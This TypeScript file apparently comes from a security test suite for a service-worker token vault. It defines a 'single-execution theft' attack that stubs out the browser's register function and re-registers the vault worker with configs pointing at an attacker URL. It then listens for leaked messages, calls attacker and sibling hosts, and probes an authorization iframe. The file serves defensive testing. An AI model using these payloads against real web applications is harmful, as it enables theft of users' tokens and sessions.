import { attack } from "../attack.js";

/** The browser's original `register`. */
declare const genuineRegister: ServiceWorkerContainer["register"];

const registerAgain = attack({
  name: "registers the worker again with another URL, scope or query",
  threat: "single-execution theft",
  target: "strongroom",
  leavesWorkers: true,
  hook() {
    Object.assign(globalThis, { genuineRegister: ServiceWorkerContainer.prototype.register });
    // The app must not notice that its worker is gone: it would navigate away for a new session and end the payload.
    ServiceWorkerContainer.prototype.register = () => new Promise(() => {});
  },
  async payload(it) {
    const config = encodeURIComponent(JSON.stringify({ api: [{ url: `${it.attackerUrl}/` }] }));
    for (const [url, options] of [
      [`/vault-worker.js?config=${config}`, {}],
      [`/vault-worker.js?api=${encodeURIComponent(it.attackerUrl)}`, {}],
      [`/vault-worker.js#config=${config}`, {}],
      ["/vault-worker.js?2", { scope: "/auth/" }],
      ["/vault-worker.js", { scope: "/auth/callback" }],
      ["/strongroom-worker.js", {}],
      ["/strongroom-worker.js", { scope: "/auth/keep" }],
      ["/vault-worker.js", { type: "module", scope: "/module/" }],
      [`/vault-worker.js?${config}`, { updateViaCache: "all", scope: "/x/" }],
    ] as [string, RegistrationOptions][]) {
      const registration = await genuineRegister
        .call(navigator.serviceWorker, it.scriptUrl(url), options)
        .catch((error: unknown) => void it.steal(String(error)));
      const worker = registration?.installing ?? registration?.waiting ?? registration?.active;
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => it.steal(data);
      worker?.postMessage("strongroom:hello", [port2]);
      await it.pause(60);
      for (const home of [it.attackerUrl, it.siblingUrl]) await fetch(`${home}/registered`).catch(() => {});
      await fetch(`${it.apiUrl}me`).catch(() => {});
    }
    const frame = document.createElement("iframe");
    frame.src = it.authorizationUrl();
    document.body.append(frame);
    await it.pause(400);
    try {
      it.steal(frame.contentWindow?.location.href);
    } catch {
      // Cross-origin.
    }
  },
  async play(stage) {
    stage.hook([]);
    await stage.openSignedIn();
    stage.hook([registerAgain]);
    await stage.openUnconnected();
    await stage.inject();
  },
});

export default registerAgain;
